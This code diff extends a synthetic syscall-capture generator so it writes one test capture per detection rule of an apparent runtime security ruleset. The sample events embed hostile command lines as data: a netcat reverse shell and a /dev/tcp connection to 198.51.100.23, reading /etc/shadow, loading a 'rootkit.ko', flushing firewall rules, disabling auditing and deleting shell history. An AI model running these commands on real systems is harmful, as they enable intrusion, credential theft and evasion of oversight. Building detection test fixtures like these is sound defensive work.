@@ -2,6 +2,8 @@
 //  --scenario load   many processes doing file, network and process work (benchmarks)
 //  --scenario shell  one interactive shell session with a few suspicious steps (samples/)
 #include <cstdio>
+#include <filesystem>
+#include <functional>
 #include <random>
 #include <string>
 #include <vector>
@@ -56,6 +58,8 @@ class Emitter {
     put();
   }
   void write(Proc& p, int64_t fd, std::string_view data) { read(p, fd, data, 8); }
+  void set_exe_flags(uint32_t f) { exe_flags_ = f; }
+  void set_cgroups(std::string c) { cgroups_ = std::move(c); }
   void close(Proc& p, int64_t fd) {
     enter(4, p).num<int64_t>(fd);
     put();
@@ -113,7 +117,7 @@ class Emitter {
           .num<uint32_t>(3000)
           .num<uint32_t>(0)
           .str(parent.comm)
-          .bytes("cpu=/user.slice\0", 16)
+          .bytes(cgroups_.data(), cgroups_.size())
           .num<uint32_t>(0x01000000)
           .num<uint32_t>(parent.uid)
           .num<uint32_t>(parent.uid)
@@ -147,12 +151,12 @@ class Emitter {
         .num<uint32_t>(1200)
         .num<uint32_t>(0)
         .str(p.comm)
-        .bytes("cpu=/user.slice\0", 16)
+        .bytes(cgroups_.data(), cgroups_.size())
         .bytes("HOME=/root\0PATH=/usr/bin:/bin\0", 30)
         .num<uint32_t>(34816)
         .num<int64_t>(static_cast<int64_t>(p.pid))
         .num<uint32_t>(1000)
-        .num<uint32_t>(0)
+        .num<uint32_t>(exe_flags_)
         .num<uint64_t>(0)
         .num<uint64_t>(0)
         .num<uint64_t>(0)
@@ -185,6 +189,57 @@ class Emitter {
     put();
     p.uid = uid;
   }
+  void raw(uint16_t type, const Proc& p, const std::function<void(EventBuilder&)>& params) {
+    auto& b = begin(type, p);
+    params(b);
+    put();
+  }
+  void syscall_pair(uint16_t exit_type, const Proc& p, const std::function<void(EventBuilder&)>& exit_params) {
+    begin(static_cast<uint16_t>(exit_type - 1), p);
+    put();
+    raw(exit_type, p, exit_params);
+  }
+  void unlink_path(Proc& p, const std::string& path) {
+    syscall_pair(301, p, [&](EventBuilder& b) { b.num<int64_t>(0).str(path); });
+  }
+  void mount(Proc& p, const std::string& dev, const std::string& dir, const std::string& type) {
+    syscall_pair(257, p, [&](EventBuilder& b) { b.num<int64_t>(0).str(dev).str(dir).str(type).num<uint32_t>(0); });
+  }
+  void unshare(Proc& p, uint32_t flags) {
+    syscall_pair(285, p, [&](EventBuilder& b) { b.num<int64_t>(0).num<uint32_t>(flags); });
+  }
+  void dup2(Proc& p, int64_t oldfd, int64_t newfd) {
+    syscall_pair(363, p, [&](EventBuilder& b) { b.num<int64_t>(newfd).num<int64_t>(oldfd).num<int64_t>(newfd); });
+  }
+  void bpf_prog_load(Proc& p, int64_t fd) {
+    syscall_pair(369, p, [&](EventBuilder& b) { b.num<int64_t>(fd).num<uint32_t>(5); });  // BPF_PROG_LOAD
+  }
+  void finit_module(Proc& p, int64_t fd) {
+    syscall_pair(413, p, [&](EventBuilder& b) { b.num<int64_t>(0).num<int64_t>(fd).str("").num<uint32_t>(0); });
+  }
+  void ptrace_attach(Proc& p, int64_t pid) {
+    syscall_pair(169, p, [&](EventBuilder& b) {
+      uint8_t dyn[9] = {0};
+      b.num<int64_t>(0).bytes(dyn, 9).bytes(dyn, 9).num<uint16_t>(5).num<int64_t>(pid);  // PPM_PTRACE_ATTACH
+    });
+  }
+  void unix_connect(Proc& p, int64_t fd, const std::string& path) {
+    enter(18, p).num<uint32_t>(1).num<uint32_t>(1).num<uint32_t>(0);
+    put();
+    exit(19, p).num<int64_t>(fd).num<uint32_t>(1).num<uint32_t>(1).num<uint32_t>(0).num<uint32_t>(0);
+    put();
+    std::string tuple(17, '\0');
+    tuple[0] = 1;
+    tuple += path;
+    tuple += '\0';
+    std::string addr(1, '\1');
+    addr += path;
+    addr += '\0';
+    enter(22, p).num<int64_t>(fd).bytes(addr.data(), addr.size());
+    put();
+    exit(23, p).num<int64_t>(0).bytes(tuple.data(), tuple.size()).num<int64_t>(fd).bytes(addr.data(), addr.size());
+    put();
+  }
   void procexit(Proc& p) {
     enter(186, p).num<int64_t>(0).num<int64_t>(0).num<uint8_t>(0).num<uint8_t>(0).num<int64_t>(0);
     put();
@@ -207,6 +262,8 @@ class Emitter {
   EventBuilder b_;
   uint64_t ts_ = kStart;
   uint64_t events_ = 0;
+  uint32_t exe_flags_ = 0;
+  std::string cgroups_ = std::string("cpu=/user.slice\0", 16);
 };
 
 Metadata base_metadata(const std::vector<Proc>& procs) {
@@ -364,6 +421,216 @@ void load_scenario(Writer& w, uint64_t target, uint64_t seed) {
   std::fprintf(stderr, "\rload scenario: %llu events\n", static_cast<unsigned long long>(e.events()));
 }
 
+
+constexpr char kContainerId[] = "8f3c2a1b9d4e";
+constexpr char kContainerFullId[] = "8f3c2a1b9d4e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a";
+
+std::string container_cgroups() { return std::string("cpu=/docker/") + kContainerFullId + '\0'; }
+
+// One small capture per rule of the default ruleset, plus a benign one, for rule tests.
+class RuleSamples {
+ public:
+  explicit RuleSamples(std::string dir) : dir_(std::move(dir)) { std::filesystem::create_directories(dir_); }
+
+  // `body` runs processes under a bash session (uid 1000, or in a container).
+  void sample(const std::string& slug, bool in_container, const std::function<void(Emitter&, Proc&)>& body) {
+    std::vector<Proc> procs = {{1, 0, "systemd", "/sbin/init", "", "/", 0},
+                               {812, 1, "sshd", "/usr/sbin/sshd", std::string("-D\0", 3), "/", 0},
+                               {4100, 812, "bash", "-bash", "", "/home/alice", 1000}};
+    if (in_container) {
+      procs.push_back({5000, 1, "containerd-shim", "/usr/bin/containerd-shim", "", "/", 0});
+      procs.push_back({5100, 5000, "nginx", "nginx", "", "/", 0});
+    }
+    Metadata m = base_metadata(procs);
+    if (in_container) {
+      for (auto& t : m.threads)
+        if (t.pid == 5100) t.cgroups = container_cgroups();
+    }
+    Writer w(dir_ + "/" + slug + ".scap");
+    w.begin_section(m);
+    Emitter e(w, 2);
+    if (in_container) {
+      EventBuilder b;
+      std::string json = std::string("{\"container\":{\"id\":\"") + kContainerFullId +
+                         "\",\"type\":0,\"name\":\"web\",\"image\":\"nginx:1.25\",\"imagerepo\":\"nginx\","
+                         "\"imagetag\":\"1.25\",\"privileged\":false,\"Mounts\":[],\"labels\":{}}}";
+      w.write_event(b.begin(324, kStart - 1000, UINT64_MAX).str(json).view());
+      e.set_cgroups(container_cgroups());
+    }
+    Proc& root = in_container ? procs[4] : procs[2];
+    body(e, root);
+    w.close();
+    ++count_;
+  }
+  int count() const { return count_; }
+
+ private:
+  std::string dir_;
+  int count_ = 0;
+};
+
+// Runs `exe` as a child of `parent` (clone then execve), then `body`, then exit.
+template <typename F>
+void run(Emitter& e, Proc& parent, uint64_t pid, const std::string& exe, const std::vector<std::string>& argv, F body) {
+  Proc child{pid, parent.pid, parent.comm, parent.exe, parent.args, parent.cwd, parent.uid};
+  e.clone(parent, child);
+  e.execve(child, exe, argv);
+  body(child);
+  e.procexit(child);
+}
+
+void rules_scenario(const std::string& dir) {
+  RuleSamples s(dir);
+  const uint8_t local[4] = {10, 0, 0, 5};
+  const uint8_t pub[4] = {198, 51, 100, 23};
+  auto none = [](Proc&) {};
+  constexpr uint32_t kRead = 1, kWrite = 2, kCreate = 4, kTrunc = 1u << 8;
+
+  s.sample("sensitive-file-read-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/etc/shadow"}, [&](Proc& p) { e.openat(p, "/etc/shadow", kRead, 3); });
+  });
+  s.sample("program-run-from-a-temporary-directory", false,
+           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/tmp/x", {"/tmp/x"}, none); });
+  s.sample("permission-change-below-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "+x", "/tmp/x"}, [&](Proc& p) { e.chmod(p, "/tmp/x", 0755); });
+  });
+  s.sample("download-tool-connects-outside-the-private-network", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/wget", {"wget", "http://198.51.100.23/a"},
+        [&](Proc& p) { e.socket_connect(p, 3, local, 40000, pub, 80); });
+  });
+  s.sample("network-connection-from-a-program-in-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/dev/shm/.k", {"/dev/shm/.k"}, [&](Proc& p) { e.socket_connect(p, 3, local, 40001, pub, 443); });
+  });
+  s.sample("user-switched-to-root", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/sudo", {"sudo", "-s"}, [&](Proc& p) { e.setuid(p, 0); });
+  });
+  s.sample("shell-history-opened-by-another-program", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/vim", {"vim", ".bash_history"},
+        [&](Proc& p) { e.openat(p, "/home/alice/.bash_history", kWrite | kTrunc, 3); });
+  });
+  s.sample("file-deleted-below-a-temporary-directory", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/rm", {"rm", "/tmp/x"}, [&](Proc& p) { e.unlink(p, "/tmp/x"); });
+  });
+  s.sample("credential-directory-written", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/tee", {"tee", "/etc/sudoers.d/99-x"},
+        [&](Proc& p) { e.openat(p, "/etc/sudoers.d/99-x", kWrite | kCreate, 3); });
+  });
+  s.sample("kernel-module-loaded", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/sbin/insmod", {"insmod", "rootkit.ko"}, [&](Proc& p) {
+      e.openat(p, "/home/alice/rootkit.ko", kRead, 3);
+      e.finit_module(p, 3);
+    });
+  });
+  s.sample("process-attached-to-another-with-ptrace", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/gdb", {"gdb", "-p", "812"}, [&](Proc& p) { e.ptrace_attach(p, 812); });
+  });
+  s.sample("fileless-execution-from-memory", false, [&](Emitter& e, Proc& sh) {
+    e.set_exe_flags(4);  // PPM_EXE_FROM_MEMFD
+    run(e, sh, 6001, "/memfd:x (deleted)", {"x"}, none);
+    e.set_exe_flags(0);
+  });
+  s.sample("shell-started-in-a-container", true,
+           [&](Emitter& e, Proc& app) { run(e, app, 6001, "/bin/sh", {"sh", "-i"}, none); });
+  s.sample("package-manager-run-in-a-container", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/usr/bin/apt-get", {"apt-get", "install", "-y", "nmap"}, none);
+  });
+  s.sample("shell-spawned-by-a-web-server", true,
+           [&](Emitter& e, Proc& app) { run(e, app, 6001, "/bin/bash", {"bash", "-c", "id"}, none); });
+  s.sample("persistence-location-written", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/tee", {"tee", "/etc/cron.d/update"},
+        [&](Proc& p) { e.openat(p, "/etc/cron.d/update", kWrite | kCreate, 3); });
+  });
+  s.sample("log-file-truncated-or-deleted", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/truncate", {"truncate", "-s0", "/var/log/auth.log"},
+        [&](Proc& p) { e.openat(p, "/var/log/auth.log", kWrite | kTrunc, 3); });
+  });
+  s.sample("binary-directory-written", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/cp", {"cp", "x", "/usr/local/bin/ls"},
+        [&](Proc& p) { e.openat(p, "/usr/local/bin/ls", kWrite | kCreate | kTrunc, 3); });
+  });
+  s.sample("ssh-authorized-keys-changed", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/tee", {"tee", "-a", ".ssh/authorized_keys"},
+        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/authorized_keys", kWrite | (1u << 3), 3); });
+  });
+  s.sample("setuid-or-setgid-bit-set", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/chmod", {"chmod", "u+s", "/home/alice/sh"},
+        [&](Proc& p) { e.chmod(p, "/home/alice/sh", 04755); });
+  });
+  s.sample("mount-inside-a-container", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/bin/mount", {"mount", "/dev/sda1", "/mnt"},
+        [&](Proc& p) { e.mount(p, "/dev/sda1", "/mnt", "ext4"); });
+  });
+  s.sample("namespace-change-inside-a-container", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/usr/bin/unshare", {"unshare", "-U", "-r"}, [&](Proc& p) { e.unshare(p, 1u << 20); });
+  });
+  s.sample("process-memory-or-environment-read", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/cat", {"cat", "/proc/812/environ"},
+        [&](Proc& p) { e.openat(p, "/proc/812/environ", kRead, 3); });
+  });
+  s.sample("container-runtime-socket-connected", true, [&](Emitter& e, Proc& app) {
+    run(e, app, 6001, "/usr/bin/curl", {"curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"},
+        [&](Proc& p) { e.unix_connect(p, 3, "/var/run/docker.sock"); });
+  });
+  s.sample("socket-redirected-to-standard-input-or-output", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/python3", {"python3", "-c", "..."}, [&](Proc& p) {
+      e.socket_connect(p, 3, local, 40002, pub, 8443);
+      e.dup2(p, 3, 0);
+    });
+  });
+  s.sample("netcat-run-with-command-execution", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/nc", {"nc", "-e", "/bin/sh", "198.51.100.23", "9001"}, none);
+  });
+  s.sample("connection-to-a-mining-pool-port", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/home/alice/xmr", {"xmr"}, [&](Proc& p) { e.socket_connect(p, 3, local, 40003, pub, 3333); });
+  });
+  s.sample("bpf-program-loaded", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/home/alice/loader", {"loader"}, [&](Proc& p) { e.bpf_prog_load(p, 5); });
+  });
+  s.sample("user-account-created-or-changed", false,
+           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/useradd", {"useradd", "-m", "backup2"}, none); });
+  s.sample("password-database-written-by-an-untrusted-program", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/python3", {"python3", "add_user.py"},
+        [&](Proc& p) { e.openat(p, "/etc/passwd", kWrite | (1u << 3), 3); });
+  });
+  s.sample("shell-history-deleted", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/rm", {"rm", "-f", "/home/alice/.bash_history"},
+        [&](Proc& p) { e.unlink_path(p, "/home/alice/.bash_history"); });
+  });
+  s.sample("ssh-private-key-read-by-an-unexpected-program", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/usr/bin/base64", {"base64", ".ssh/id_ed25519"},
+        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/id_ed25519", kRead, 3); });
+  });
+  s.sample("outbound-connection-from-a-shell", false, [&](Emitter& e, Proc& sh) {
+    run(e, sh, 6001, "/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/198.51.100.23/9001"},
+        [&](Proc& p) { e.socket_connect(p, 3, local, 40004, pub, 9001); });
+  });
+  s.sample("firewall-rules-flushed-or-disabled", false,
+           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/iptables", {"iptables", "-F"}, none); });
+  s.sample("audit-logging-stopped", false,
+           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/usr/sbin/auditctl", {"auditctl", "-e", "0"}, none); });
+  s.sample("program-run-from-a-hidden-directory", false,
+           [&](Emitter& e, Proc& sh) { run(e, sh, 6001, "/home/alice/.x/miner", {"miner"}, none); });
+
+  // Everyday administration that no rule should flag.
+  s.sample("benign", false, [&](Emitter& e, Proc& sh) {
+    const uint8_t mirror[4] = {10, 0, 0, 9};
+    run(e, sh, 6001, "/usr/bin/ls", {"ls", "-la"}, [&](Proc& p) { e.openat(p, "/home/alice", kRead | (1u << 10), 3); });
+    run(e, sh, 6002, "/usr/bin/cat", {"cat", "/etc/hosts"}, [&](Proc& p) {
+      e.openat(p, "/etc/hosts", kRead, 3);
+      e.read(p, 3, "127.0.0.1 localhost\n");
+      e.close(p, 3);
+    });
+    run(e, sh, 6003, "/usr/bin/vim", {"vim", "notes.txt"},
+        [&](Proc& p) { e.openat(p, "/home/alice/notes.txt", kWrite | kCreate | kTrunc, 3); });
+    run(e, sh, 6004, "/usr/bin/curl", {"curl", "http://10.0.0.9/status"},
+        [&](Proc& p) { e.socket_connect(p, 3, local, 40005, mirror, 80); });
+    run(e, sh, 6005, "/usr/bin/ssh", {"ssh", "build01"},
+        [&](Proc& p) { e.openat(p, "/home/alice/.ssh/id_ed25519", kRead, 3); });
+    run(e, sh, 6006, "/usr/bin/git", {"git", "status"}, [&](Proc& p) { e.openat(p, "/home/alice/src/.git/HEAD", kRead, 3); });
+  });
+  std::fprintf(stderr, "rules scenario: %d captures in %s\n", s.count(), dir.c_str());
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -371,13 +638,18 @@ int main(int argc, char** argv) {
   std::string out, scenario = "load", compression = "none";
   uint64_t events = 2000000, seed = 1;
   app.add_option("-o,--output", out, "Capture to write")->required();
-  app.add_option("--scenario", scenario, "load or shell")->check(CLI::IsMember({"load", "shell"}));
+  app.add_option("--scenario", scenario, "load, shell, or rules (one capture per default rule, -o names a directory)")
+      ->check(CLI::IsMember({"load", "shell", "rules"}));
   app.add_option("--events", events, "Events to write (load scenario)");
   app.add_option("--seed", seed, "Random seed (load scenario)");
   app.add_option("--compress", compression, "none, gzip or zstd")
       ->check(CLI::IsMember({"none", "gzip", "zstd"}));
   CLI11_PARSE(app, argc, argv);
   try {
+    if (scenario == "rules") {
+      rules_scenario(out);
+      return 0;
+    }
     WriterOptions o;
     o.compression = compression == "gzip"   ? Compression::Gzip
                     : compression == "zstd" ? Compression::Zstd
